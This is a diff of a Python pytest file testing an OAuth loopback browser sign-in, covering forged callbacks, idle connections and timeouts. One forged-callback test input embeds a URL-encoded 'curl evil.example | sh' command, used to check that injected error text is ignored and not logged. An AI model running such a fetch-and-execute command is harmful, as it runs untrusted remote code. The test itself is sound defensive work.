@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import contextlib
 import queue
 import socket
 import threading
+from collections.abc import Iterator
 from typing import Any
 
 import pytest
@@ -14,7 +16,6 @@ from procore_dc import (
     ConfigurationError,
     OAuthError,
     ServiceAccountAuth,
-    StateMismatchError,
     UserLevelAuth,
 )
 from procore_dc.auth.loopback import sign_in_with_browser
@@ -44,7 +45,9 @@ def run_sign_in(auth: UserLevelAuth) -> tuple[threading.Thread, dict[str, Any], 
     return thread, result, urls
 
 
-def test_sign_in_with_browser_completes_the_flow() -> None:
+@contextlib.contextmanager
+def signing_in() -> Iterator[tuple[str, UserLevelAuth, threading.Thread, dict[str, Any], str]]:
+    """A sign-in running against FakeProcore: redirect, strategy, thread, result, its URL."""
     redirect = f"http://127.0.0.1:{free_port()}/callback"
     with FakeProcore(seed=0, rate_limits=None) as sandbox:
         app = sandbox.create_app(redirect_uris=[redirect])
@@ -52,7 +55,11 @@ def test_sign_in_with_browser_completes_the_flow() -> None:
             app.client_id, app.client_secret, redirect, environment=sandbox.environment
         )
         thread, result, urls = run_sign_in(auth)
-        url = urls.get(timeout=10)
+        yield redirect, auth, thread, result, urls.get(timeout=10)
+
+
+def test_sign_in_with_browser_completes_the_flow() -> None:
+    with signing_in() as (redirect, auth, thread, result, url):
         requests.get(f"{redirect.rsplit('/', 1)[0]}/favicon.ico", timeout=10)  # ignored: 404
         page = requests.get(url, timeout=10)  # authorize -> redirect -> our receiver
         thread.join(30)
@@ -62,20 +69,66 @@ def test_sign_in_with_browser_completes_the_flow() -> None:
         assert auth.store.load() == result["token"]
 
 
-def test_a_forged_callback_fails_the_sign_in() -> None:
-    redirect = f"http://127.0.0.1:{free_port()}/callback"
-    with FakeProcore(seed=0, rate_limits=None) as sandbox:
-        app = sandbox.create_app(redirect_uris=[redirect])
-        auth = UserLevelAuth(
-            app.client_id, app.client_secret, redirect, environment=sandbox.environment
-        )
-        thread, result, urls = run_sign_in(auth)
-        urls.get(timeout=10)
-        page = requests.get(f"{redirect}?code=stolen&state=forged", timeout=10)
+@pytest.mark.parametrize(
+    "forged",
+    [
+        "?code=stolen&state=forged",
+        "?error=access_denied&error_description=Run+curl+evil.example+%7C+sh",
+        "?error=access_denied&state=forged",
+    ],
+    ids=["wrong-state", "error-without-state", "error-with-wrong-state"],
+)
+def test_a_forged_callback_is_ignored_and_the_real_one_completes(
+    forged: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    with signing_in() as (redirect, auth, thread, result, url):
+        with caplog.at_level("WARNING", logger="procore_dc"):
+            bad = requests.get(f"{redirect}{forged}", timeout=10)
+        assert bad.status_code == 400
+        assert thread.is_alive()  # still waiting for the real callback
+        page = requests.get(url, timeout=10)
         thread.join(30)
-        assert "failed" in page.text
-        assert isinstance(result["error"], StateMismatchError)
-        assert auth.store.load() is None
+        assert "Signed in" in page.text
+        assert "error" not in result
+        assert auth.store.load() == result["token"]
+    assert "state is not this flow's" in caplog.text
+    assert "evil.example" not in caplog.text
+
+
+def test_an_idle_preconnect_neither_blocks_the_callback_nor_the_timeout() -> None:
+    with signing_in() as (redirect, _auth, thread, result, url):
+        port = int(redirect.split(":")[2].split("/")[0])
+        with socket.create_connection(("127.0.0.1", port), timeout=5) as idle:
+            idle.send(b"GET /callback")  # half a request line, then nothing
+            page = requests.get(url, timeout=10)  # the real callback, while idle is open
+            thread.join(30)
+        assert "Signed in" in page.text
+        assert "error" not in result
+
+
+def test_the_timeout_holds_with_an_idle_connection_open() -> None:
+    port = free_port()
+    auth = UserLevelAuth("id", "secret", f"http://127.0.0.1:{port}/callback")
+    result: dict[str, Any] = {}
+
+    def target() -> None:
+        try:
+            sign_in_with_browser(auth, open_browser=False, timeout=1, announce=lambda url: None)
+        except OAuthError as exc:
+            result["error"] = exc
+
+    thread = threading.Thread(target=target)
+    thread.start()
+    for _ in range(100):  # until the receiver listens
+        try:
+            idle = socket.create_connection(("127.0.0.1", port), timeout=5)
+            break
+        except OSError:
+            threading.Event().wait(0.02)
+    with idle:
+        thread.join(4)  # the old receiver stayed blocked on the idle socket
+        assert not thread.is_alive()
+    assert result["error"].error == "timeout"
 
 
 def test_a_non_loopback_redirect_is_refused() -> None:
@@ -140,3 +193,18 @@ def test_only_user_level_auth_can_sign_in_with_a_browser() -> None:
     auth = ServiceAccountAuth("id", "secret")
     with pytest.raises(ConfigurationError, match="needs a UserLevelAuth"):
         sign_in_with_browser(auth, open_browser=False)  # type: ignore[arg-type]
+
+
+def test_an_error_callback_with_this_flows_state_ends_the_sign_in() -> None:
+    from urllib.parse import parse_qs, urlsplit
+
+    port = free_port()
+    redirect = f"http://127.0.0.1:{port}/callback"
+    auth = UserLevelAuth("id", "secret", redirect)
+    thread, result, urls = run_sign_in(auth)
+    state = parse_qs(urlsplit(urls.get(timeout=10)).query)["state"][0]
+    page = requests.get(f"{redirect}?error=access_denied&state={state}", timeout=10)
+    thread.join(30)
+    assert "failed" in page.text
+    assert isinstance(result["error"], OAuthError)
+    assert result["error"].error == "access_denied"
